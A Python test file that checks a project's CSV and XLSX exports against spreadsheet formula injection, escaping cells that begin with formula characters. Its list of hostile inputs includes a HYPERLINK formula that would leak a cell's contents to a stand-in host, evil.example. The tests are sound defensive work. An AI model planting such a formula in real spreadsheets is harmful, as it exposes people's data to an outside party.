"""Exports never turn a user's text into a formula, in XLSX or in CSV."""

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from motcua.core.spreadsheets import append_row, csv_text, from_csv_text, write_csv_rows

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&C5,"Xem hồ sơ")', "=1+2", "+84 912", "-2", "@SUM(A1)"]


@pytest.mark.parametrize("text", [*HOSTILE, "\tTab", "\rCR"])
def test_csv_text_that_a_spreadsheet_would_run_is_marked_and_read_back(text):
    assert csv_text(text) == "'" + text
    assert from_csv_text(csv_text(text)) == text


@pytest.mark.parametrize("text", ["Nguyễn Văn An", "'quoted", "1.001193", "", "a=b"])
def test_ordinary_text_is_left_alone(text):
    assert csv_text(text) == text and from_csv_text(text) == text


def test_a_csv_file_holds_no_formula():
    handle = io.StringIO()
    write_csv_rows(handle, [["name", "address"], HOSTILE[:2], [None, 7]])
    assert handle.getvalue().splitlines() == [
        "name,address",
        '"\'=HYPERLINK(""http://evil.example/?leak=""&C5,""Xem hồ sơ"")",\'=1+2',
        ",7",
    ]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_rows_keep_text_as_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    append_row(sheet, ["Tên", "Địa chỉ", 3])
    append_row(sheet, HOSTILE)
    stream = io.BytesIO()
    book.save(stream)
    with zipfile.ZipFile(stream) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml  # no formula anywhere
    rows = list(load_workbook(stream).worksheets[0].iter_rows(values_only=True))
    assert rows == [("Tên", "Địa chỉ", 3, None, None), tuple(HOSTILE)]
